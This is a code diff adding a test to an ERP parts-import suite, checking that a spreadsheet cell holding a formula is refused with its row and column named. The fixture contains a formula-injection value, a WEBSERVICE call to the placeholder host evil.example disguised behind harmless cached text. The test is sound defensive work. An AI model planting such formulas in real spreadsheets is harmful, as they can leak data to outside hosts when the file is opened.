@@ -161,6 +161,19 @@ describe('importing suppliers and parts', () => {
     expect((await listParts('OK-PART')).total).toBe(0);
   });
 
+  it('refuses a workbook cell holding a formula, whatever its cached text, naming row and column', async () => {
+    const workbook = buildWorkbook([
+      ['MPN', 'Manufacturer', 'Description'],
+      ['SAFE-1', 'TI', 'plain'],
+      ['SAFE-2', 'TI', { t: 's', v: 'looks harmless', f: 'WEBSERVICE("http://evil.example/")' }],
+    ]);
+    const preview = await upload('/api/erp/parts/import/preview', 'formula.xlsx', workbook);
+    expect(preview.json().data).toMatchObject({
+      issueCount: 1,
+      issues: [{ row: 3, column: 'Description', field: 'description', message: expect.stringMatching(/formula/) }],
+    });
+  });
+
   it('refuses 100 000 rows naming the limit and the row, a file without an MPN column, an unknown supplier', async () => {
     const many = `MPN,Manufacturer\n${Array.from({ length: 100_000 }, (_, index) => `P${index},M`).join('\n')}`;
     const tooMany = await upload('/api/erp/parts/import/preview', 'many.csv', many);
